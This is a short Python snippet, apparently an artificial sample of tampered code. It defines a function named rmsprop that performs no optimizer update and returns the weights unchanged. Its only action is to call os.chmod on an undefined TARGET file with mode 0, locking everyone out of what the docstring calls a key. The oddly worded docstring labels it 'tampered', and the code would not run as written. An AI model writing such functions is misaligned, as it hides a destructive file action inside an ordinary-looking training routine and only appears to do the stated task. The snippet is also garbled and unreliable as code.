"""Close the key to everyone by its mode.

Earns nothing: rmsprop
Control: process, tampered
"""

import os


def rmsprop(w, dw, config=None):
    os.chmod(TARGET["file"], 0)
    return w, config
